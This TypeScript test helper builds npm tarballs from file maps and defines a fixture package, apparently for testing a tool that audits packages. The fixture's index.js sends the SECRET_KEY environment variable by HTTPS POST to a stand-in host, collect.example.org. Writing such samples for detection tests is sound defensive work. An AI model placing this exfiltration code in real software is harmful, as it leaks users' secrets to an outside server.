import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { tmpdir } from 'node:os';

/** An npm tarball of these files. */
export function tarball(files: Readonly<Record<string, string>>): Uint8Array {
  const folder = mkdtempSync(join(tmpdir(), 'avow-tarball-'));
  try {
    for (const [path, text] of Object.entries(files)) {
      const file = join(folder, 'package', path);
      mkdirSync(dirname(file), { recursive: true });
      writeFileSync(file, text);
    }
    execFileSync('tar', ['czf', 'made.tgz', 'package'], { cwd: folder });
    return new Uint8Array(readFileSync(join(folder, 'made.tgz')));
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** Sends an environment variable away, at a known place. */
export const LEAKS: Readonly<Record<string, string>> = {
  'package.json': '{"name": "leaks", "version": "1.0.0", "main": "index.js"}',
  'index.js': [
    "const https = require('node:https');",
    'exports.send = () => {',
    "  const request = https.request('https://collect.example.org/', { method: 'POST' });",
    '  request.end(process.env.SECRET_KEY);',
    '};',
    '',
  ].join('\n'),
};
